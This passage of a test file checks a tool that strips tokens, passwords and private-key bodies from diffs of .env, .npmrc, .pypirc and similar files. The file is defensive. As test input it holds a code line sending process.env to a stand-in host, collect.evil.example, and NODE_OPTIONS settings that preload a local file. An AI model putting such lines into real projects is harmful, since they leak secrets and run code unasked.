    const patch = newFile('.env', [fill(unit)])
    // A pattern that retried its runs would time the test out (see above).
    const result = redactPatch(patch, 'secret file')
    expect(result.patch.split('\n')).toHaveLength(patch.split('\n').length)
    expect(result.patch.startsWith(patch.slice(0, patch.indexOf('@@')))).toBe(true)
  })

  it('reads a megabyte of key bodies once, and leaves none of them', () => {
    const line = 'Ab3/' + 'x'.repeat(56) + 'Yz9+'
    const patch = newFile('src/big.ts', [
      fill(['-----BEGIN PRIVATE ' + 'KEY-----', line, line, ''].join(' '))
    ])
    const result = redactPatch(patch)
    expect(result.kinds).toEqual(['private key'])
    expect(result.patch).not.toContain(line)
  })

  it('replaces a megabyte of secrets, each where it stands', () => {
    const key = 'AKIA' + 'ABCDEFGHIJKLMNOP'
    const patch = newFile('src/big.ts', [fill(`k(${key}) `), fill(`"${key}", `)])
    const result = redactPatch(patch)
    // Each unit is 24 characters; the last, cut short, holds no whole key.
    expect(result.secrets).toBe(2 * Math.floor(MEGABYTE / 24))
    expect(result.patch).not.toContain(key)
    expect(result.patch).toContain('k([redacted: AWS access key]) k(')
  })

  it('still finds a secret at the end of a megabyte of near misses', () => {
    const patch = newFile('config/big.yaml', [
      fill('password: a '),
      'password: hunter2-super-secret'
    ])
    expect(redactPatch(patch).kinds).toEqual(['password or secret assignment'])
  })
})

describe('redactPatch: secret files', () => {
  // Built by concatenation so this file holds no complete secret-looking literal.
  const NPM = 'npm_' + 'a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8'
  const PYPI = 'pypi-' + 'AgEIcHlwaS5vcmcCJGI4YjQ2ZjE5LTk2ZWMtNDc0OS1hZTZkLWE3ZmQ3NDgz'
  const GH = 'ghp_' + 'Zx9Yw8Vu7Ts6Rq5Po4Nm3Lk2Ji1Hg0Fe9Dc8'

  /** The new file's lines as a secret file's patch shows them, and what was found. */
  function asSecretFile(path: string, lines: readonly string[]) {
    const result = redactPatch(newFile(path, lines), 'secret file')
    return {
      lines: result.patch
        .split('\n')
        .filter(line => line.startsWith('+') && !line.startsWith('+++')),
      secrets: result.secrets,
      kinds: result.kinds
    }
  }

  it('never sends the values of an .env file, and shows its other lines as they are', () => {
    const values = {
      token: 'q8Zr2Lm5Xv7Nb4Tk9Wc3Hd6Jf1Gs0Pa',
      password: 'hunter2',
      quoted: 'correct horse battery staple',
      plain: 'env-value-9f8e7d',
      url: 'S3cretPw',
      unnamed: 'Zm9vYmFyYmF6cXV4MTIzNDU2Nzg5MEFCQ0RF'
    }
    const { lines, secrets } = asSecretFile('.env', [
      `API_TOKEN=${values.token}`,
      `export DB_PASSWORD=${values.password}`,
      `SESSION_SECRET="${values.quoted}"`,
      `PLAIN=${values.plain}`,
      `DATABASE_URL=postgres://app:${values.url}@db.internal/app`,
      `SIGNING=${values.unnamed}`,
      'NODE_ENV=production',
      'PORT=3000',
      'NODE_OPTIONS=--require ./hook.js',
      'BASH_ENV=scripts/env.sh',
      'FEATURE_FLAGS=true',
      'UPSTREAM_TOKEN=${CI_TOKEN}'
    ])
    expect(secrets).toBe(6)
    for (const [kind, value] of Object.entries(values)) {
      expect(lines.join('\n').includes(value), kind).toBe(false)
    }
    expect(lines).toEqual([
      '+API_TOKEN=[redacted: high-entropy secret]',
      '+export DB_PASSWORD=[redacted: credential setting]',
      '+SESSION_SECRET="[redacted: credential setting]"',
      '+PLAIN=[redacted: password-like value]',
      '+DATABASE_URL=postgres://app:[redacted: password in URL]@db.internal/app',
      '+SIGNING=[redacted: password-like value]',
      '+NODE_ENV=production',
      '+PORT=3000',
      '+NODE_OPTIONS=--require ./hook.js',
      '+BASH_ENV=scripts/env.sh',
      '+FEATURE_FLAGS=true',
      '+UPSTREAM_TOKEN=${CI_TOKEN}'
    ])
  })

  it('never sends the tokens of an .npmrc, and shows what it makes npm do', () => {
    const auth = Buffer.from('alice:' + 'pa55word').toString('base64')
    const { lines } = asSecretFile('.npmrc', [
      `//registry.npmjs.org/:_authToken=${NPM}`,
      '//npm.pkg.github.com/:_authToken=${NODE_AUTH_TOKEN}',
      `//registry.example.com/:_auth=${auth}`,
      'registry=https://registry.npmjs.org/',
      'always-auth=true',
      'email=dev@example.com',
      'node-options=--require ./.env'
    ])
    expect(lines).toEqual([
      '+//registry.npmjs.org/:_authToken=[redacted: npm token]',
      '+//npm.pkg.github.com/:_authToken=${NODE_AUTH_TOKEN}',
      '+//registry.example.com/:_auth=[redacted: credential setting]',
      '+registry=https://registry.npmjs.org/',
      '+always-auth=true',
      '+email=dev@example.com',
      '+node-options=--require ./.env'
    ])
  })

  it('never sends the passwords of a .pypirc, and shows its user names', () => {
    const { lines } = asSecretFile('.pypirc', [
      '[pypi]',
      'username = __token__',
      `password = ${PYPI}`,
      '[internal]',
      'repository = https://pypi.internal.example/simple/',
      'username = alice',
      'password = s3cr3t!'
    ])
    expect(lines).toEqual([
      '+[pypi]',
      '+username = __token__',
      '+password = [redacted: PyPI token]',
      '+[internal]',
      '+repository = https://pypi.internal.example/simple/',
      '+username = alice',
      '+password = [redacted: credential setting]'
    ])
  })

  it('never sends the passwords of a .netrc, .pgpass or .htpasswd', () => {
    expect(
      asSecretFile('.netrc', [
        `machine github.com login bot password ${GH}`,
        'machine example.com',
        '  login alice',
        '  password hunter2'
      ]).lines
    ).toEqual([
      '+machine github.com login bot password [redacted: GitHub token]',
      '+machine example.com',
      '+  login alice',
      '+  password [redacted: credential setting]'
    ])
    expect(asSecretFile('.pgpass', ['db.internal:5432:app:app:pgS3cret']).lines).toEqual([
      '+db.internal:5432:app:app:[redacted: credential setting]'
    ])
    const hash = '$apr1$' + 'r31.....$HqJZimcKQFAMYayBlzkrA/'
    expect(asSecretFile('.htpasswd', [`alice:${hash}`]).lines).toEqual([
      '+alice:[redacted: password hash]'
    ])
  })

  it('never sends a private key’s body, and shows its BEGIN and END lines', () => {
    const { privateKey } = generateKeyPairSync('ec', {
      namedCurve: 'P-256',
      privateKeyEncoding: { type: 'pkcs8', format: 'pem' },
      publicKeyEncoding: { type: 'spki', format: 'pem' }
    })
    const pem = privateKey.trim().split('\n')
    const { lines } = asSecretFile('deploy/server.key', pem)
    expect(lines[0]).toBe('+-----BEGIN PRIVATE KEY-----')
    expect(lines.at(-1)).toBe('+-----END PRIVATE KEY-----')
    for (const body of pem.slice(1, -1)) expect(lines.join('\n')).not.toContain(body)
  })

  it('shows code in a secret file as it is: only what looks like a credential goes', () => {
    const code = [
      "const fs = require('node:fs')",
      'const token = process.env.TOKEN',
      'const apiKey = loadKey(config)',
      "if (token === '') exfiltrate(process.env, 'https://collect.evil.example')",
      "node() { echo 'ok 1 - add'; }",
      "module.exports = () => fs.readFileSync('./.npmrc', 'utf8')",
      'process.exit(0)'
    ]
    const { lines, secrets } = asSecretFile('src/telemetry.key', code)
    expect(secrets).toBe(0)
    expect(lines).toEqual(code.map(line => `+${line}`))
  })

  it('takes out more than it does in code: an unnamed random value stays in a source file', () => {
    const line = 'SIGNING=Zm9vYmFyYmF6cXV4MTIzNDU2Nzg5MEFCQ0RF'
    expect(redactPatch(newFile('src/a.ts', [line])).secrets).toBe(0)
    expect(redactPatch(newFile('.env.production', [line]), 'secret file').secrets).toBe(1)
  })
})
